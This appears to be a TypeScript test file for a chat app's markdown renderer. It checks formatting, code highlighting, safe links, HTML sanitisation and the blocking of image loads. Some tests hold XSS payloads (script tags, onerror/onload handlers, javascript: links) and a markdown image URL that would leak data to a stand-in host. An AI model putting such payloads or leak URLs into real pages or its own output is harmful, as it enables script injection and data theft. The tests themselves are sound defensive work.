// @vitest-environment happy-dom
import { describe, expect, it } from 'vitest';
import {
  hasCodeFence,
  highlighterLoaded,
  loadHighlighter,
  renderMarkdown,
} from '../src/chat/markdown/markdown.js';

const dom = (markdown: string) => {
  const div = document.createElement('div');
  div.innerHTML = renderMarkdown(markdown);
  return div;
};

describe('renderMarkdown', () => {
  it('renders bold, lists, tables and line breaks', () => {
    const d = dom(
      '**bold** and *it*\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\nline\nnext',
    );
    expect(d.querySelector('strong')?.textContent).toBe('bold');
    expect([...d.querySelectorAll('li')].map((li) => li.textContent)).toEqual(['one', 'two']);
    expect([...d.querySelectorAll('th')].map((th) => th.textContent)).toEqual(['a', 'b']);
    expect(d.querySelector('td')?.textContent).toBe('1');
    expect(d.querySelectorAll('br')).toHaveLength(1);
  });

  it('puts fenced code in a block with its language and a Copy button', () => {
    const d = dom('```python\nprint("<hi>")\n```');
    expect(d.querySelector('.code-lang')?.textContent).toBe('python');
    expect(d.querySelector('button[data-copy]')?.getAttribute('aria-label')).toBe(
      'Copy python code',
    );
    expect(d.querySelector('pre code')?.textContent).toBe('print("<hi>")');
    expect(hasCodeFence('text\n```js\nx\n```')).toBe(true);
    expect(hasCodeFence('no `fence` here')).toBe(false);
  });

  it('colours code once the highlighter is loaded', async () => {
    await loadHighlighter();
    expect(highlighterLoaded()).toBe(true);
    const d = dom('```ts\nconst x: number = 1; // one\n```');
    expect(d.querySelector('.hljs-keyword')?.textContent).toBe('const');
    expect(d.querySelector('.hljs-comment')?.textContent).toBe('// one');
    expect(d.querySelector('pre code')?.textContent).toBe('const x: number = 1; // one');
    // An unknown language stays plain, escaped text.
    expect(dom('```nosuchlang\n<b>x</b>\n```').querySelector('b')).toBeNull();
  });

  it('opens links in a new tab without opener or referrer, and drops script URLs', () => {
    const d = dom('[site](https://example.org) and [bad](javascript:alert(1)) <https://a.test>');
    const links = [...d.querySelectorAll('a')];
    const site = links.find((a) => a.textContent === 'site');
    expect(site?.getAttribute('href')).toBe('https://example.org');
    expect(site?.getAttribute('target')).toBe('_blank');
    expect(site?.getAttribute('rel')).toBe('noopener noreferrer');
    for (const a of links) expect(a.getAttribute('href') ?? '').not.toMatch(/^javascript:/i);
  });

  it('shows HTML typed in a message as text, and nothing in it runs', () => {
    const payload =
      '<script>alert(1)</script><img src=x onerror=alert(2)> <a href="javascript:alert(3)">x</a>' +
      '\n\n<svg onload=alert(4)></svg>\n\n![pic](x" onerror="alert(5))';
    const d = dom(payload);
    expect(d.querySelector('script, svg, iframe')).toBeNull();
    expect(d.querySelector('[onerror], [onload]')).toBeNull();
    expect(d.querySelector('a[href^="javascript"]')).toBeNull();
    expect(d.textContent).toContain('<script>alert(1)</script>');
    expect(d.textContent).toContain('<img src=x onerror=alert(2)>');
  });
});

describe('renderMarkdown images', () => {
  it('shows an image as a link, never loading it', () => {
    const d = dom('![secret](https://evil.test/leak?q=data)');
    expect(d.querySelector('img')).toBeNull();
    expect(d.querySelector('a')?.textContent).toBe('[image: secret]');
    expect(d.querySelector('a')?.getAttribute('rel')).toBe('noopener noreferrer');
  });
});
